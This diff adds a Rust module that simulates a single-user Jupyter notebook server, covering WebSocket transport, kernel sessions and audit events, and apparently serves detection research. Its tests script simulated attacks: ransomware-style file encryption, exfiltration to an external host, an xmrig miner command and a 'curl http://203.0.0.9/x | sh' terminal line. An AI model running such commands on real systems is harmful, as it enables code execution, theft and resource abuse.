@@ -1,0 +1,814 @@
+//! A single-user notebook server: kernels, client sessions, transport
+//! encryption, and cell execution.
+//!
+//! This is where the two observation planes meet: every cell execution
+//! produces (a) signed kernel-protocol messages on a WebSocket flow —
+//! the network plane — and (b) file/process/network side effects — the
+//! kernel-audit plane. Experiments compare what each plane reveals.
+
+use crate::actions::{Action, CellScript};
+use crate::config::{ServerConfig, TransportMode};
+use crate::events::{SysEvent, SysEventKind};
+use crate::process::{Pid, ProcessTable};
+use crate::terminal::TerminalSession;
+use crate::vfs::Vfs;
+use ja_crypto::chacha::ChaCha20;
+use ja_crypto::entropy::ByteStats;
+use ja_crypto::sha256::sha256;
+use ja_jupyter_proto::channels::ConnectionInfo;
+use ja_jupyter_proto::session::{CellEffect, ClientSession, KernelSession};
+
+use ja_netsim::addr::{HostAddr, HostId};
+use ja_netsim::flow::FlowId;
+use ja_netsim::network::Network;
+use ja_netsim::rng::SimRng;
+use ja_netsim::segment::Direction;
+use ja_netsim::time::{Duration, SimTime};
+use ja_websocket::codec::fragment;
+use ja_websocket::frame::Opcode;
+use ja_websocket::handshake::{UpgradeRequest, UpgradeResponse};
+
+/// Derive the transport keystream seed for one direction of one flow.
+/// A monitor granted "TLS inspection" knows `secret` and can derive the
+/// same keystream; a passive attacker cannot.
+pub fn transport_seed(secret: &[u8], flow: FlowId, dir: Direction) -> Vec<u8> {
+    let mut s = secret.to_vec();
+    s.extend_from_slice(&flow.0.to_le_bytes());
+    s.push(match dir {
+        Direction::ToResponder => 0,
+        Direction::ToInitiator => 1,
+    });
+    sha256(&s).to_vec()
+}
+
+struct KernelEntry {
+    kernel: KernelSession,
+    pid: Pid,
+    #[allow(dead_code)]
+    conn_info: ConnectionInfo,
+}
+
+/// A browser↔server connection carrying kernel channels over WebSocket.
+pub struct ClientConn {
+    /// Network flow of the WebSocket connection.
+    pub flow: FlowId,
+    /// Authenticated user.
+    pub user: String,
+    /// Kernel index on the server.
+    pub kernel_idx: usize,
+    client: ClientSession,
+    c2s: Option<ChaCha20>,
+    s2c: Option<ChaCha20>,
+    /// Per-message payload cipher (E2E mode); never derivable by the
+    /// monitor.
+    msg_cipher_seed: Option<Vec<u8>>,
+}
+
+/// A single-user notebook server.
+pub struct NotebookServer {
+    /// Deployment-unique id.
+    pub id: u32,
+    /// Configuration.
+    pub config: ServerConfig,
+    /// Network address.
+    pub addr: HostAddr,
+    /// Listening port (8888 standalone, 443 behind the hub proxy).
+    pub port: u16,
+    /// Virtual filesystem.
+    pub vfs: Vfs,
+    /// Process table.
+    pub procs: ProcessTable,
+    /// Terminal sessions.
+    pub terminals: Vec<TerminalSession>,
+    /// Kernel-audit event stream.
+    pub sys_events: Vec<SysEvent>,
+    /// TLS-inspection secret (shared with authorized monitors).
+    pub transport_secret: Vec<u8>,
+    kernels: Vec<KernelEntry>,
+    signing_key: Vec<u8>,
+    rng: SimRng,
+    server_pid: Pid,
+    /// Open attacker/user-initiated outbound flows: (flow, dst, port).
+    ext_flows: Vec<(FlowId, HostAddr, u16)>,
+    /// Most recently spawned process per user (CPU burns attach here,
+    /// persisting across cells — a miner keeps burning after its launch
+    /// cell returns).
+    last_spawned: std::collections::HashMap<String, Pid>,
+}
+
+impl NotebookServer {
+    /// Boot a server owned by `id` with the given config.
+    pub fn new(id: u32, config: ServerConfig, rng_seed: u64) -> Self {
+        let mut rng = SimRng::new(rng_seed);
+        let signing_key = if config.hmac_signing {
+            let mut k = vec![0u8; 32];
+            rng.fill_bytes(&mut k);
+            k
+        } else {
+            Vec::new()
+        };
+        let mut transport_secret = vec![0u8; 16];
+        rng.fill_bytes(&mut transport_secret);
+        let mut procs = ProcessTable::new();
+        let server_pid = procs.spawn(
+            "jupyter-server",
+            "jupyter notebook --no-browser",
+            "system",
+            None,
+            SimTime::ZERO,
+        );
+        let port = if config.listen_all_interfaces { 8888 } else { 443 };
+        NotebookServer {
+            id,
+            config,
+            addr: HostAddr::internal(HostId(id + 10)),
+            port,
+            vfs: Vfs::new(),
+            procs,
+            terminals: Vec::new(),
+            sys_events: Vec::new(),
+            transport_secret,
+            kernels: Vec::new(),
+            signing_key,
+            rng,
+            server_pid,
+            ext_flows: Vec::new(),
+            last_spawned: std::collections::HashMap::new(),
+        }
+    }
+
+    /// The message-signing key (empty when signing disabled).
+    pub fn signing_key(&self) -> &[u8] {
+        &self.signing_key
+    }
+
+    /// Start a kernel for `user`; returns its index.
+    pub fn start_kernel(&mut self, user: &str, now: SimTime) -> usize {
+        let idx = self.kernels.len();
+        let pid = self.procs.spawn(
+            "python",
+            "python -m ipykernel_launcher -f kernel.json",
+            user,
+            Some(self.server_pid),
+            now,
+        );
+        let base_port = 50000 + (idx as u16) * 10;
+        let conn_info = if self.config.hmac_signing {
+            ConnectionInfo::new("127.0.0.1", base_port, self.rng.range(0, u64::MAX))
+        } else {
+            ConnectionInfo::unsigned("127.0.0.1", base_port)
+        };
+        let kernel = KernelSession::new(&format!("srv{}-k{}", self.id, idx), &self.signing_key);
+        self.kernels.push(KernelEntry {
+            kernel,
+            pid,
+            conn_info,
+        });
+        idx
+    }
+
+    fn transport_encrypt(
+        cipher: &mut Option<ChaCha20>,
+        bytes: Vec<u8>,
+    ) -> Vec<u8> {
+        match cipher {
+            Some(c) => c.encrypt(&bytes),
+            None => bytes,
+        }
+    }
+
+    /// Open a browser connection for `user` to kernel `kernel_idx`.
+    /// Performs the HTTP upgrade on the wire so the monitor can see (or
+    /// not see) the handshake, token included when misconfigured.
+    pub fn connect(
+        &mut self,
+        net: &mut Network,
+        at: SimTime,
+        client_addr: HostAddr,
+        user: &str,
+        kernel_idx: usize,
+    ) -> ClientConn {
+        let src_port = net.ephemeral_port();
+        let flow = net.open(at, client_addr, src_port, self.addr, self.port);
+        let (mut c2s, mut s2c) = match self.config.transport {
+            TransportMode::PlainWs => (None, None),
+            _ => (
+                Some(ChaCha20::from_seed(&transport_seed(
+                    &self.transport_secret,
+                    flow,
+                    Direction::ToResponder,
+                ))),
+                Some(ChaCha20::from_seed(&transport_seed(
+                    &self.transport_secret,
+                    flow,
+                    Direction::ToInitiator,
+                ))),
+            ),
+        };
+        let target = if self.config.token_in_url {
+            format!(
+                "/api/kernels/k{}/channels?session_id={}&token=tok-{}",
+                kernel_idx, user, self.id
+            )
+        } else {
+            format!("/api/kernels/k{}/channels", kernel_idx)
+        };
+        let req = UpgradeRequest::new(&target, "hub.hpc.example", self.rng.range(0, u64::MAX));
+        let req_bytes = req.to_http().into_bytes();
+        let wire_bytes = Self::transport_encrypt(&mut c2s, req_bytes);
+        let t = net.send(at, flow, Direction::ToResponder, &wire_bytes);
+        let resp = UpgradeResponse::accept(&req).to_http().into_bytes();
+        let resp_bytes = Self::transport_encrypt(&mut s2c, resp);
+        net.send(t, flow, Direction::ToInitiator, &resp_bytes);
+        let msg_cipher_seed = if self.config.transport == TransportMode::E2eEncrypted {
+            let mut s = vec![0u8; 16];
+            self.rng.fill_bytes(&mut s);
+            Some(s)
+        } else {
+            None
+        };
+        ClientConn {
+            flow,
+            user: user.to_string(),
+            kernel_idx,
+            client: ClientSession::new(
+                &format!("sess-{}-{}", self.id, user),
+                user,
+                &self.signing_key,
+            ),
+            c2s,
+            s2c,
+            msg_cipher_seed,
+        }
+    }
+
+    fn ws_send(
+        net: &mut Network,
+        at: SimTime,
+        conn: &mut ClientConn,
+        dir: Direction,
+        payload: &[u8],
+        msg_seq: u64,
+    ) -> SimTime {
+        // E2E mode: encrypt the message body before framing.
+        let body: Vec<u8> = match &conn.msg_cipher_seed {
+            Some(seed) => {
+                let mut s = seed.clone();
+                s.extend_from_slice(&msg_seq.to_le_bytes());
+                ChaCha20::from_seed(&s).encrypt(payload)
+            }
+            None => payload.to_vec(),
+        };
+        let masked = dir == Direction::ToResponder; // client masks
+        let frames = fragment(Opcode::Binary, &body, 1, masked);
+        let mut t = at;
+        for f in frames {
+            let bytes = f.encode();
+            let wire = match dir {
+                Direction::ToResponder => Self::transport_encrypt(&mut conn.c2s, bytes),
+                Direction::ToInitiator => Self::transport_encrypt(&mut conn.s2c, bytes),
+            };
+            t = net.send(t, conn.flow, dir, &wire);
+        }
+        t
+    }
+
+    fn push_event(&mut self, time: SimTime, user: &str, kind: SysEventKind) {
+        self.sys_events.push(SysEvent {
+            time,
+            server_id: self.id,
+            user: user.to_string(),
+            kind,
+        });
+    }
+
+    /// Execute a cell over a connection: protocol messages ride the flow,
+    /// side effects hit the VFS/process table/network and are audited.
+    /// Returns the time execution finished.
+    pub fn run_cell(
+        &mut self,
+        net: &mut Network,
+        at: SimTime,
+        conn: &mut ClientConn,
+        script: &CellScript,
+    ) -> SimTime {
+        let user = conn.user.clone();
+        self.push_event(
+            at,
+            &user,
+            SysEventKind::CellExecute {
+                kernel_id: conn.kernel_idx as u32,
+                code: script.code.clone(),
+            },
+        );
+        // 1. Request on the wire.
+        let request = conn.client.execute_request(&script.code, at.as_micros());
+        let mut t = Self::ws_send(
+            net,
+            at,
+            conn,
+            Direction::ToResponder,
+            &request.encode(),
+            conn.client.messages_sent(),
+        );
+        // 2. Apply side effects.
+        let (effect, end) = self.apply_actions(net, t, conn, script);
+        t = end;
+        // 3. Kernel responses on the wire.
+        let kernel = &mut self.kernels[conn.kernel_idx].kernel;
+        let responses = kernel
+            .handle_execute(&request, &effect, t.as_micros())
+            .unwrap_or_default();
+        let seq_base = conn.client.messages_sent() + 1_000_000; // server-side message numbering
+        for (i, (_ch, msg)) in responses.into_iter().enumerate() {
+            t = Self::ws_send(
+                net,
+                t,
+                conn,
+                Direction::ToInitiator,
+                &msg.encode(),
+                seq_base + i as u64,
+            );
+        }
+        t
+    }
+
+    /// Apply a script's actions; returns the protocol-visible effect and
+    /// the end time.
+    fn apply_actions(
+        &mut self,
+        net: &mut Network,
+        at: SimTime,
+        conn: &ClientConn,
+        script: &CellScript,
+    ) -> (CellEffect, SimTime) {
+        let user = conn.user.clone();
+        let mut t = at;
+        let mut stdout = String::new();
+        let mut stderr = String::new();
+        let mut last_pid: Option<Pid> = self.last_spawned.get(&user).copied();
+        let kernel_pid = self.kernels[conn.kernel_idx].pid;
+        for action in &script.actions {
+            // Every action takes a small slice of time even when "free".
+            t += Duration::from_millis(1);
+            match action {
+                Action::ReadFile { path } => match self.vfs.read(path) {
+                    Ok(node) => {
+                        let bytes = node.size;
+                        self.push_event(
+                            t,
+                            &user,
+                            SysEventKind::FileRead {
+                                path: path.clone(),
+                                bytes,
+                            },
+                        );
+                    }
+                    Err(_) => {
+                        stderr.push_str(&format!("FileNotFoundError: {path}\n"));
+                    }
+                },
+                Action::WriteFile { path, kind, size } => {
+                    // Overwrite semantics: delete then create.
+                    let _ = self.vfs.delete(path);
+                    let mut frng = self.rng.fork(t.as_micros());
+                    self.vfs
+                        .create(path, *kind, *size, &user, &mut frng, t)
+                        .expect("fresh path");
+                    let entropy = self.vfs.read(path).expect("just created").entropy_bits();
+                    self.push_event(
+                        t,
+                        &user,
+                        SysEventKind::FileWrite {
+                            path: path.clone(),
+                            bytes: *size,
+                            entropy_bits: entropy,
+                        },
+                    );
+                }
+                Action::EncryptFile { path, key_seed } => {
+                    match self.vfs.encrypt_in_place(path, key_seed, t) {
+                        Ok(()) => {
+                            let node = self.vfs.read(path).expect("exists");
+                            let (bytes, entropy) = (node.size, node.entropy_bits());
+                            self.push_event(
+                                t,
+                                &user,
+                                SysEventKind::FileWrite {
+                                    path: path.clone(),
+                                    bytes,
+                                    entropy_bits: entropy,
+                                },
+                            );
+                        }
+                        Err(_) => stderr.push_str(&format!("FileNotFoundError: {path}\n")),
+                    }
+                }
+                Action::RenameFile { from, to } => {
+                    if self.vfs.rename(from, to, t).is_ok() {
+                        self.push_event(
+                            t,
+                            &user,
+                            SysEventKind::FileRename {
+                                from: from.clone(),
+                                to: to.clone(),
+                            },
+                        );
+                    } else {
+                        stderr.push_str(&format!("OSError: rename {from}\n"));
+                    }
+                }
+                Action::DeleteFile { path } => {
+                    if self.vfs.delete(path).is_ok() {
+                        self.push_event(t, &user, SysEventKind::FileDelete { path: path.clone() });
+                    } else {
+                        stderr.push_str(&format!("FileNotFoundError: {path}\n"));
+                    }
+                }
+                Action::Exec { name, cmdline } => {
+                    let pid = self.procs.spawn(name, cmdline, &user, Some(kernel_pid), t);
+                    last_pid = Some(pid);
+                    self.last_spawned.insert(user.clone(), pid);
+                    self.push_event(
+                        t,
+                        &user,
+                        SysEventKind::ProcExec {
+                            pid,
+                            name: name.clone(),
+                            cmdline: cmdline.clone(),
+                        },
+                    );
+                }
+                Action::BurnCpu { wall, utilization } => {
+                    let pid = last_pid.unwrap_or(kernel_pid);
+                    let cpu = wall.as_secs_f64() * utilization;
+                    self.procs.burn_cpu(pid, cpu);
+                    t += *wall;
+                    self.push_event(
+                        t,
+                        &user,
+                        SysEventKind::CpuSample {
+                            pid,
+                            cpu_secs: cpu,
+                            utilization: *utilization,
+                        },
+                    );
+                }
+                Action::Connect { dst, dst_port } => {
+                    let sport = net.ephemeral_port();
+                    let flow = net.open(t, self.addr, sport, *dst, *dst_port);
+                    self.ext_flows.push((flow, *dst, *dst_port));
+                    self.push_event(
+                        t,
+                        &user,
+                        SysEventKind::NetConnect {
+                            dst: *dst,
+                            dst_port: *dst_port,
+                        },
+                    );
+                }
+                Action::SendBytes {
+                    bytes,
+                    entropy_high,
+                } => {
+                    if let Some(&(flow, dst, dst_port)) = self.ext_flows.last() {
+                        let payload = self.gen_payload(*bytes, *entropy_high, t);
+                        t = net.send_snapped(t, flow, Direction::ToResponder, &payload, *bytes);
+                        self.push_event(
+                            t,
+                            &user,
+                            SysEventKind::NetSend {
+                                dst,
+                                dst_port,
+                                bytes: *bytes,
+                            },
+                        );
+                    } else {
+                        stderr.push_str("ConnectionError: no open socket\n");
+                    }
+                }
+                Action::RecvBytes { bytes } => {
+                    if let Some(&(flow, _, _)) = self.ext_flows.last() {
+                        let payload = self.gen_payload(*bytes, true, t);
+                        t = net.send_snapped(t, flow, Direction::ToInitiator, &payload, *bytes);
+                    }
+                }
+                Action::Sleep { wall } => {
+                    t += *wall;
+                }
+                Action::Print { text } => {
+                    stdout.push_str(text);
+                }
+            }
+        }
+        let effect = CellEffect {
+            stdout: (!stdout.is_empty()).then_some(stdout),
+            stderr: (!stderr.is_empty()).then_some(stderr),
+            result: None,
+            error: None,
+        };
+        (effect, t)
+    }
+
+    /// Generate an outbound payload. Actual bytes are capped (large
+    /// transfers are represented by a capped sample with the true size
+    /// recorded in flow accounting via repeated sends).
+    fn gen_payload(&mut self, bytes: u64, entropy_high: bool, t: SimTime) -> Vec<u8> {
+        let len = bytes.min(64 * 1024) as usize;
+        if entropy_high {
+            let mut seed = self.transport_secret.clone();
+            seed.extend_from_slice(&t.as_micros().to_le_bytes());
+            ChaCha20::from_seed(&seed).keystream(len)
+        } else {
+            b"GET /telemetry?value=0.173&run=12 HTTP/1.1\r\nHost: data.example\r\n\r\n"
+                .iter()
+                .cycle()
+                .take(len)
+                .copied()
+                .collect()
+        }
+    }
+
+    /// Run a terminal command (the terminal attack surface): spawns a
+    /// process and records history + audit events.
+    pub fn run_terminal(&mut self, at: SimTime, user: &str, cmdline: &str) {
+        let term_id = self.terminals.len() as u32;
+        let term = match self.terminals.iter_mut().find(|tm| tm.user == user) {
+            Some(tm) => tm,
+            None => {
+                self.terminals.push(TerminalSession::new(term_id, user, at));
+                self.terminals.last_mut().expect("just pushed")
+            }
+        };
+        term.run(at, cmdline);
+        let name = cmdline.split_whitespace().next().unwrap_or("sh").to_string();
+        let pid = self.procs.spawn(&name, cmdline, user, Some(self.server_pid), at);
+        self.push_event(
+            at,
+            user,
+            SysEventKind::ProcExec {
+                pid,
+                name,
+                cmdline: cmdline.to_string(),
+            },
+        );
+    }
+
+    /// Close all outbound flows (end of simulation).
+    pub fn finish(&mut self, net: &mut Network, at: SimTime) {
+        for (flow, _, _) in self.ext_flows.drain(..) {
+            net.close(at, flow, false);
+        }
+    }
+
+    /// Entropy statistics across current home-dir files — ground truth
+    /// for ransomware damage assessment.
+    pub fn home_entropy_profile(&self, user: &str) -> ByteStats {
+        let mut stats = ByteStats::new();
+        for path in self.vfs.list(&format!("/home/{user}/")) {
+            if let Ok(node) = self.vfs.read(&path) {
+                stats.update(&node.sample);
+            }
+        }
+        stats
+    }
+
+    /// Seed a user's home directory.
+    pub fn provision_user(&mut self, user: &str, now: SimTime) {
+        let mut frng = self.rng.fork(user.len() as u64 + now.as_micros());
+        self.vfs.populate_home(user, &mut frng, now);
+    }
+
+    /// Write-access to the RNG for campaign code needing server-local
+    /// deterministic draws.
+    pub fn rng_mut(&mut self) -> &mut SimRng {
+        &mut self.rng
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::AuthMode;
+    use crate::vfs::ContentKind;
+    use ja_netsim::addr::ports;
+
+    fn boot(config: ServerConfig) -> (NotebookServer, Network) {
+        let mut srv = NotebookServer::new(1, config, 42);
+        srv.provision_user("alice", SimTime::ZERO);
+        srv.start_kernel("alice", SimTime::ZERO);
+        (srv, Network::new())
+    }
+
+    fn client_addr() -> HostAddr {
+        HostAddr::internal(HostId(200))
+    }
+
+    #[test]
+    fn connect_produces_handshake_traffic() {
+        let (mut srv, mut net) = boot(ServerConfig::hardened());
+        let _conn = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
+        let trace = net.into_trace();
+        assert!(trace.summary().segments >= 3); // SYN + upgrade + 101
+        assert_eq!(trace.summary().flows, 1);
+    }
+
+    #[test]
+    fn plaintext_handshake_visible_tls_not() {
+        for (mode, expect_visible) in [
+            (TransportMode::PlainWs, true),
+            (TransportMode::Tls, false),
+        ] {
+            let mut cfg = ServerConfig::hardened();
+            cfg.transport = mode;
+            let (mut srv, mut net) = boot(cfg);
+            let _ = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
+            let trace = net.into_trace();
+            let stream = trace.reassemble(0, Direction::ToResponder);
+            let visible = String::from_utf8_lossy(&stream).contains("Upgrade: websocket");
+            assert_eq!(visible, expect_visible, "mode {mode:?}");
+        }
+    }
+
+    #[test]
+    fn token_in_url_appears_on_wire_when_misconfigured() {
+        let mut cfg = ServerConfig::hardened();
+        cfg.transport = TransportMode::PlainWs;
+        cfg.token_in_url = true;
+        let (mut srv, mut net) = boot(cfg);
+        let _ = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
+        let trace = net.into_trace();
+        let stream = String::from_utf8_lossy(&trace.reassemble(0, Direction::ToResponder)).into_owned();
+        assert!(stream.contains("token=tok-1"), "stream: {stream}");
+    }
+
+    #[test]
+    fn run_cell_produces_bidirectional_protocol_traffic() {
+        let mut cfg = ServerConfig::hardened();
+        cfg.transport = TransportMode::PlainWs;
+        let (mut srv, mut net) = boot(cfg);
+        let mut conn = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
+        let script = CellScript::new(
+            "print('hello')",
+            vec![Action::Print {
+                text: "hello\n".into(),
+            }],
+        );
+        let end = srv.run_cell(&mut net, SimTime::from_millis(10), &mut conn, &script);
+        assert!(end > SimTime::from_millis(10));
+        let fs = net.into_trace().flow_summaries();
+        assert_eq!(fs.len(), 1);
+        assert!(fs[0].bytes_up > 100); // request
+        assert!(fs[0].bytes_down > 500); // 5 response messages
+    }
+
+    #[test]
+    fn cell_effects_hit_vfs_and_audit_stream() {
+        let (mut srv, mut net) = boot(ServerConfig::hardened());
+        let mut conn = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
+        let script = CellScript::new(
+            "process()",
+            vec![
+                Action::ReadFile {
+                    path: "/home/alice/data/run_0.csv".into(),
+                },
+                Action::WriteFile {
+                    path: "/home/alice/out.csv".into(),
+                    kind: ContentKind::Csv,
+                    size: 1234,
+                },
+            ],
+        );
+        srv.run_cell(&mut net, SimTime::from_secs(1), &mut conn, &script);
+        assert!(srv.vfs.read("/home/alice/out.csv").is_ok());
+        let classes: Vec<&str> = srv.sys_events.iter().map(|e| e.class()).collect();
+        assert!(classes.contains(&"cell_execute"));
+        assert!(classes.contains(&"file_read"));
+        assert!(classes.contains(&"file_write"));
+    }
+
+    #[test]
+    fn encrypt_action_raises_home_entropy() {
+        let (mut srv, mut net) = boot(ServerConfig::hardened());
+        let mut conn = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
+        let before = srv.home_entropy_profile("alice").shannon_bits();
+        let paths = srv.vfs.list("/home/alice/data/");
+        let actions: Vec<Action> = paths
+            .iter()
+            .map(|p| Action::EncryptFile {
+                path: p.clone(),
+                key_seed: b"ransom".to_vec(),
+            })
+            .collect();
+        srv.run_cell(
+            &mut net,
+            SimTime::from_secs(2),
+            &mut conn,
+            &CellScript::new("lock_files()", actions),
+        );
+        let after = srv.home_entropy_profile("alice").shannon_bits();
+        assert!(after > before + 0.5, "before {before} after {after}");
+    }
+
+    #[test]
+    fn outbound_actions_create_external_flows() {
+        let (mut srv, mut net) = boot(ServerConfig::hardened());
+        let mut conn = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
+        let dst = HostAddr::external(55);
+        let script = CellScript::new(
+            "exfiltrate()",
+            vec![
+                Action::Connect {
+                    dst,
+                    dst_port: ports::HUB_HTTPS,
+                },
+                Action::SendBytes {
+                    bytes: 100_000,
+                    entropy_high: true,
+                },
+            ],
+        );
+        srv.run_cell(&mut net, SimTime::from_secs(3), &mut conn, &script);
+        srv.finish(&mut net, SimTime::from_secs(4));
+        let fs = net.into_trace().flow_summaries();
+        let ext = fs
+            .iter()
+            .find(|f| f.tuple.dst == dst)
+            .expect("external flow exists");
+        assert!(ext.bytes_up >= 64 * 1024); // capped payload
+        assert!(ext.tuple.crosses_perimeter());
+        // Audit saw the same thing.
+        assert!(srv
+            .sys_events
+            .iter()
+            .any(|e| matches!(e.kind, SysEventKind::NetSend { dst_port: 443, .. })));
+    }
+
+    #[test]
+    fn cpu_burn_accounted_to_spawned_process() {
+        let (mut srv, mut net) = boot(ServerConfig::hardened());
+        let mut conn = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
+        let script = CellScript::new(
+            "!./xmrig",
+            vec![
+                Action::Exec {
+                    name: "xmrig".into(),
+                    cmdline: "./xmrig -o pool.example:3333".into(),
+                },
+                Action::BurnCpu {
+                    wall: Duration::from_secs(3600),
+                    utilization: 0.98,
+                },
+            ],
+        );
+        let end = srv.run_cell(&mut net, SimTime::from_secs(5), &mut conn, &script);
+        assert!(end.since(SimTime::from_secs(5)).as_secs_f64() >= 3600.0);
+        let miner = srv
+            .procs
+            .all()
+            .iter()
+            .find(|p| p.name == "xmrig")
+            .expect("miner spawned");
+        assert!((miner.cpu_secs - 3528.0).abs() < 1.0);
+    }
+
+    #[test]
+    fn missing_file_goes_to_stderr_not_panic() {
+        let (mut srv, mut net) = boot(ServerConfig::hardened());
+        let mut conn = srv.connect(&mut net, SimTime::ZERO, client_addr(), "alice", 0);
+        let script = CellScript::new(
+            "open('/no/such')",
+            vec![Action::ReadFile {
+                path: "/no/such".into(),
+            }],
+        );
+        srv.run_cell(&mut net, SimTime::from_secs(1), &mut conn, &script);
+        // No file_read event was recorded.
+        assert!(!srv.sys_events.iter().any(|e| e.class() == "file_read"));
+    }
+
+    #[test]
+    fn terminal_commands_recorded() {
+        let (mut srv, _net) = boot(ServerConfig::hardened());
+        srv.run_terminal(SimTime::from_secs(1), "alice", "ls -la /scratch");
+        srv.run_terminal(SimTime::from_secs(2), "alice", "curl http://203.0.0.9/x | sh");
+        assert_eq!(srv.terminals.len(), 1);
+        assert_eq!(srv.terminals[0].history.len(), 2);
+        assert_eq!(
+            srv.sys_events
+                .iter()
+                .filter(|e| e.class() == "proc_exec")
+                .count(),
+            2
+        );
+    }
+
+    #[test]
+    fn unsigned_config_has_empty_key() {
+        let mut cfg = ServerConfig::hardened();
+        cfg.hmac_signing = false;
+        cfg.auth = AuthMode::None;
+        let (srv, _net) = boot(cfg);
+        assert!(srv.signing_key().is_empty());
+    }
+}
